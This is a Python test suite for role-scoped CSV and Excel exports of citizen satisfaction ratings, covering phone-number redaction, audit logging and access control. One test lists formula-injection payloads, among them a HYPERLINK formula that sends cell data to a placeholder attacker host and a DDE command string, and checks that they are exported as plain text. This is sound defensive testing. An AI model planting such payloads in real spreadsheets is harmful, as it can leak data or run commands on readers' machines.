"""Exports of evaluations and of figures per window and per unit: only what the user may see,
formulas never run, Chinese intact, no phone numbers, flagged rows only when asked, audited."""

from __future__ import annotations

import csv
import io
from datetime import date
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from feedback.accounts.models import Role
from feedback.audit.models import AuditLog
from feedback.extensions import db
from feedback.stats.queries import window_summary
from feedback.windows.models import Window
from tests.reports.conftest import utc

NOVEMBER = "month=2026-11"


def read_csv(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not GBK
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.get_data())).active


def as_dicts(rows: list[list]) -> list[dict]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def xlsx_rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def november(province, rate):
    """Evaluations of November 2026 (local time) in every window, one of October, one flagged."""
    p = province
    stored = {
        "registry_good": rate(p.registry, 5, at=utc(2026, 11, 3, 2), speed=5, attitude=4,
                              staff=p.clerk, comment="办事很快，服务很好"),
        "registry_bad": rate(p.registry, 1, at=utc(2026, 11, 4, 2), reasons=("slow", "attitude"),
                             comment="排队太久", phone="13812345678"),
        "housing": rate(p.housing, 4, at=utc(2026, 11, 5, 2)),
        "fund": rate(p.fund, 3, at=utc(2026, 11, 6, 2)),
        # 1 November 00:30 in Shanghai is still 31 October in UTC: it belongs to November
        "first_minute": rate(p.fund, 5, at=utc(2026, 10, 31, 16, 30)),
        "october": rate(p.registry, 2, at=utc(2026, 10, 31, 15, 30)),
        "flagged": rate(p.housing, 1, at=utc(2026, 11, 7, 2), flagged=True,
                        comment="同事帮忙评价"),
    }
    assert stored["flagged"].flag_status.value == "flagged"
    return stored


def _ids(rows: list[dict]) -> set[int]:
    return {int(row["评价编号"]) for row in rows}


@pytest.mark.parametrize(("role", "scope", "expected"), [
    (Role.ADMIN, None, {"registry_good", "registry_bad", "housing", "fund", "first_minute"}),
    (Role.SUPERVISOR, "changsha", {"registry_good", "registry_bad", "housing"}),
    (Role.SUPERVISOR, "zhuzhou", {"fund", "first_minute"}),
    (Role.SUPERVISOR, "root", {"registry_good", "registry_bad", "housing", "fund",
                               "first_minute"}),
    (Role.MANAGER, "registry", {"registry_good", "registry_bad"}),
])
def test_evaluations_export_holds_exactly_what_the_user_may_see(client, sign_in, province,
                                                                 november, role, scope,
                                                                 expected):
    if role == Role.MANAGER:
        sign_in(role, windows=[getattr(province, scope)])
    elif scope:
        sign_in(role, org_unit=getattr(province, scope))
    else:
        sign_in(role)
    response = client.get(f"/reports/evaluations.csv?{NOVEMBER}")
    assert response.status_code == 200
    assert _ids(as_dicts(read_csv(response))) == {november[key].id for key in expected}

    # the same rows as XLSX
    sheet = read_xlsx(client.get(f"/reports/evaluations.xlsx?{NOVEMBER}"))
    assert _ids(as_dicts(xlsx_rows(sheet))) == {november[key].id for key in expected}


@pytest.mark.parametrize(("role", "scope", "expected"), [
    (Role.ADMIN, None, {"registry", "housing", "fund"}),
    (Role.SUPERVISOR, "changsha", {"registry", "housing"}),
    (Role.MANAGER, "housing", {"housing"}),
])
def test_window_figures_hold_exactly_the_windows_the_user_may_see(client, sign_in, province,
                                                                  november, role, scope,
                                                                  expected):
    if role == Role.MANAGER:
        sign_in(role, windows=[getattr(province, scope)])
    elif scope:
        sign_in(role, org_unit=getattr(province, scope))
    else:
        sign_in(role)
    rows = as_dicts(xlsx_rows(read_xlsx(client.get(f"/reports/windows.xlsx?{NOVEMBER}"))))
    assert {row["窗口代码"] for row in rows} == {getattr(province, k).code for k in expected}


def test_the_figures_are_those_of_the_statistics(client, sign_in, province, november):
    sign_in(Role.ADMIN)
    rows = {row["窗口代码"]: row for row in as_dicts(xlsx_rows(read_xlsx(
        client.get(f"/reports/windows.xlsx?{NOVEMBER}"))))}
    for window in (province.registry, province.housing, province.fund):
        summary = window_summary([window.id], date(2026, 11, 1), date(2026, 11, 30))
        row = rows[window.code]
        assert row["评价数"] == summary.n
        assert [row[label] for label in ("非常满意", "满意", "基本满意", "不满意", "非常不满意")] \
            == [summary.counts[level] for level in (5, 4, 3, 2, 1)]
        assert row["满意度指数"] == pytest.approx(summary.index, abs=0.005)
        assert row["好评率（%）"] == pytest.approx(100 * summary.good_share, abs=0.005)
        assert row["差评率（%）"] == pytest.approx(100 * summary.bad_share, abs=0.005)
        assert row["存疑或已排除（不计入）"] == summary.flagged
    assert rows[province.housing.code]["存疑或已排除（不计入）"] == 1  # apart, not counted
    assert rows[province.housing.code]["评价数"] == 1

    units = {row["单位编码"]: row for row in as_dicts(xlsx_rows(read_xlsx(
        client.get(f"/reports/units.xlsx?{NOVEMBER}"))))}
    assert set(units) == {"HN", "HN-CS", "HN-ZZ", "HN-CS-WC", "HN-CS-WC-H", "HN-ZZ-H"}
    everything = window_summary([province.registry.id, province.housing.id, province.fund.id],
                                date(2026, 11, 1), date(2026, 11, 30))
    assert units["HN"]["评价数"] == everything.n == 5
    assert units["HN"]["满意度指数"] == pytest.approx(everything.index, abs=0.005)
    assert units["HN"]["存疑或已排除（不计入）"] == 1
    assert units["HN"]["窗口数"] == 3
    changsha = window_summary([province.registry.id, province.housing.id], date(2026, 11, 1),
                              date(2026, 11, 30))
    assert units["HN-CS"]["评价数"] == changsha.n
    assert units["HN-CS"]["满意度指数"] == pytest.approx(changsha.index, abs=0.005)
    assert units["HN-CS"]["上级单位"] == "湖南省住房和城乡建设厅"
    assert units["HN-ZZ-H"]["类型"] == "服务大厅"


def test_a_supervisor_exports_only_their_subtree_of_units(client, sign_in, province, november):
    sign_in(Role.SUPERVISOR, org_unit=province.zhuzhou)
    rows = as_dicts(read_csv(client.get(f"/reports/units.csv?{NOVEMBER}")))
    assert [row["单位编码"] for row in rows] == ["HN-ZZ", "HN-ZZ-H"]
    assert rows[0]["评价数"] == "2"


def test_an_evaluation_row_says_everything_but_the_phone_number(client, sign_in, province,
                                                                november):
    sign_in(Role.ADMIN)
    response = client.get(f"/reports/evaluations.csv?{NOVEMBER}&window={province.registry.code}")
    assert response.is_streamed  # rows go out as they are read
    rows = {int(row["评价编号"]): row for row in as_dicts(read_csv(response))}
    good, bad = rows[november["registry_good"].id], rows[november["registry_bad"].id]
    assert good["评价时间"] == "2026-11-03 10:00:00"  # local time
    assert good["单位"] == "望城区政务服务中心"
    assert good["窗口"] == "不动产登记窗口"
    assert good["评价渠道"] == "窗口二维码"
    assert (good["等级（1–5）"], good["评价等级"]) == ("5", "非常满意")
    dimensions = ("办事效率（1–5）", "服务态度（1–5）", "业务水平（1–5）")
    assert [good[name] for name in dimensions] == ["5", "4", ""]
    assert good["工作人员工号"] == "HN-CS-0019"
    assert good["意见"] == "办事很快，服务很好"
    assert (good["是否留有电话"], good["统计状态"], good["存疑原因"]) == ("否", "计入统计", "")
    # the reasons in the questionnaire's order
    assert (bad["评价等级"], bad["差评原因"]) == ("非常不满意", "态度差、效率低")
    assert bad["是否留有电话"] == "是"
    text = response.get_data().decode("utf-8-sig")
    assert "13812345678" not in text and "138****5678" not in text and "5678" not in text


def test_phone_numbers_never_reach_the_workbook(client, sign_in, province, november):
    sign_in(Role.ADMIN)
    sheet = read_xlsx(client.get(f"/reports/evaluations.xlsx?{NOVEMBER}&flagged=y"))
    values = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [v for v in values if "5678" in v]


def test_flagged_rows_only_when_asked(client, sign_in, province, november):
    sign_in(Role.ADMIN)
    plain = _ids(as_dicts(read_csv(client.get(f"/reports/evaluations.csv?{NOVEMBER}"))))
    assert november["flagged"].id not in plain
    rows = as_dicts(read_csv(client.get(f"/reports/evaluations.csv?{NOVEMBER}&flagged=y")))
    assert _ids(rows) == plain | {november["flagged"].id}
    flagged = next(row for row in rows if int(row["评价编号"]) == november["flagged"].id)
    assert flagged["统计状态"] == "存疑"
    assert flagged["存疑原因"] != ""


def test_a_level_filter_and_a_free_range(client, sign_in, province, november):
    sign_in(Role.ADMIN)
    rows = as_dicts(read_csv(client.get("/reports/evaluations.csv?level=1&start=2026-10-01"
                                        "&end=2026-11-30")))
    assert _ids(rows) == {november["registry_bad"].id}
    october = as_dicts(read_csv(client.get("/reports/evaluations.csv?month=2026-10")))
    assert _ids(october) == {november["october"].id}  # 1 November 00:30 local is November


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "＝1+1",
    "@SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "+86 138",
]


def test_formulas_a_citizen_wrote_stay_text_in_real_cells(client, sign_in, province, rate):
    for n, text in enumerate(FORMULAS):
        rate(province.registry, 2, at=utc(2026, 11, 10, 2 + n), comment=text)
    sign_in(Role.ADMIN)
    sheet = read_xlsx(client.get(f"/reports/evaluations.xlsx?{NOVEMBER}"))
    header = [cell.value for cell in sheet[1]]
    column = header.index("意见") + 1
    comments = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in comments) == sorted("'" + text for text in FORMULAS)
    assert all(c.data_type == "s" for c in comments)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    rows = as_dicts(read_csv(client.get(f"/reports/evaluations.csv?{NOVEMBER}")))
    assert sorted(row["意见"] for row in rows) == sorted("'" + text for text in FORMULAS)


def test_chinese_headers_by_default_and_english_for_an_english_interface(client, sign_in,
                                                                        province, november):
    sign_in(Role.ADMIN)
    response = client.get(f"/reports/evaluations.xlsx?{NOVEMBER}")
    assert unquote(response.headers["Content-Disposition"].split("''", 1)[1]) \
        == "manyi-evaluations-2026-11.xlsx"
    sheet = read_xlsx(response)
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["评价编号", "评价时间", "单位"]
    assert "不动产登记窗口" in [cell.value for cell in sheet["E"]]
    assert sheet.title == "评价记录"

    english = read_csv(client.get(f"/reports/evaluations.csv?{NOVEMBER}&lang=en"))
    assert english[0][:3] == ["Evaluation ID", "Rated at", "Unit"]
    assert "Very satisfied" in {row[7] for row in english[1:]}
    assert "不动产登记窗口" in {row[4] for row in english[1:]}  # names stay as written

    units = client.get("/reports/units.csv?start=2026-11-01&end=2026-11-15")
    assert 'filename="manyi-units-2026-11-01_2026-11-15.csv"' in \
        units.headers["Content-Disposition"]


def test_every_export_is_audited(client, sign_in, province, november):
    user = sign_in(Role.SUPERVISOR, org_unit=province.changsha)
    client.get(f"/reports/evaluations.xlsx?{NOVEMBER}&unit=HN-CS-WC&flagged=y").get_data()
    client.get(f"/reports/windows.csv?{NOVEMBER}").get_data()
    entries = db.session.scalars(select(AuditLog).where(AuditLog.action == "report.export")
                                 .order_by(AuditLog.id)).all()
    assert len(entries) == 2
    first, second = entries
    assert first.actor_id == user.id
    assert (first.object_type, first.object_id) == ("OrgUnit", str(province.hall.parent_id))
    assert first.changes["kind"] == "evaluations" and first.changes["format"] == "xlsx"
    assert first.changes["rows"] == 4  # the registry's two, the housing's one and its flagged one
    assert first.changes["filters"]["unit"] == "HN-CS-WC"
    assert first.changes["filters"]["include_flagged"] is True
    assert first.changes["filters"]["from"] == "2026-11-01"
    assert second.changes["kind"] == "windows" and second.changes["rows"] == 2


@pytest.mark.parametrize("url", ["/reports/", "/reports/evaluations.csv", "/reports/windows.xlsx",
                                 "/reports/units.csv"])
def test_signed_out_users_are_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize("role", [Role.STAFF, Role.OPERATOR])
def test_staff_and_operators_export_nothing(client, sign_in, province, role):
    if role == Role.STAFF:
        sign_in(role, staff=province.clerk)
    else:
        sign_in(role, org_unit=province.root)
    for url in ("/reports/", "/reports/evaluations.csv", "/reports/windows.csv"):
        assert client.get(url).status_code == 403


def test_managers_stay_with_their_windows(client, sign_in, province, november):
    sign_in(Role.MANAGER, windows=[province.registry])
    assert client.get(f"/reports/evaluations.csv?window={province.fund.code}").status_code == 403
    assert client.get("/reports/evaluations.csv?window=nosuchcode").status_code == 404
    assert client.get("/reports/evaluations.csv?unit=HN-CS").status_code == 403
    assert client.get("/reports/units.csv").status_code == 403  # figures per unit: supervisors
    assert client.get("/reports/").status_code == 200


def test_supervisors_stay_in_their_subtree(client, sign_in, province, november):
    sign_in(Role.SUPERVISOR, org_unit=province.changsha)
    assert client.get("/reports/evaluations.csv?unit=HN-ZZ").status_code == 403
    assert client.get("/reports/units.xlsx?unit=HN").status_code == 403
    assert client.get(f"/reports/evaluations.csv?window={province.fund.code}").status_code == 403
    assert db.session.scalar(select(AuditLog).where(AuditLog.action == "report.export")) is None


@pytest.mark.parametrize(("query", "message"), [
    ("month=2026-13", "2026-03"),
    ("month=2099-01", "not begun"),
    ("start=2026-11-01", "both"),
    ("start=2026-11-30&end=2026-11-01", "before"),
    ("start=2020-01-01&end=2026-11-01", "at most"),
    ("level=7", "level"),
    ("window=abc&unit=HN", "not both"),
])
def test_bad_filters_are_400_with_a_reason(client, sign_in, province, query, message):
    sign_in(Role.ADMIN)
    response = client.get(f"/reports/evaluations.csv?{query}&lang=en")
    assert response.status_code == 400
    assert message in response.text
    assert response.mimetype == "text/html"


def test_the_page_offers_the_forms_for_the_role(client, auth, sign_in, province):
    sign_in(Role.MANAGER, windows=[province.registry])
    page = client.get("/reports/").text
    assert "/reports/evaluations.xlsx" in page and "/reports/windows.xlsx" in page
    assert "/reports/units.xlsx" not in page and "/reports/monthly" not in page
    assert province.registry.code in page and province.fund.code not in page
    auth.logout()
    sign_in(Role.SUPERVISOR, org_unit=province.changsha)
    page = client.get("/reports/").text
    assert "/reports/units.xlsx" in page and 'value="HN-CS"' in page
    assert "HN-ZZ" not in page


def test_windows_no_longer_active_keep_their_rows_while_they_have_ratings(client, sign_in,
                                                                        province, november):
    province.fund.active = False
    db.session.commit()
    sign_in(Role.ADMIN)
    codes = {row["窗口代码"] for row in as_dicts(read_csv(
        client.get(f"/reports/windows.csv?{NOVEMBER}")))}
    assert province.fund.code in codes
    quiet = {row["窗口代码"] for row in as_dicts(read_csv(
        client.get("/reports/windows.csv?month=2026-09")))}
    assert province.fund.code not in quiet and province.housing.code in quiet
    assert db.session.get(Window, province.fund.id) is not None
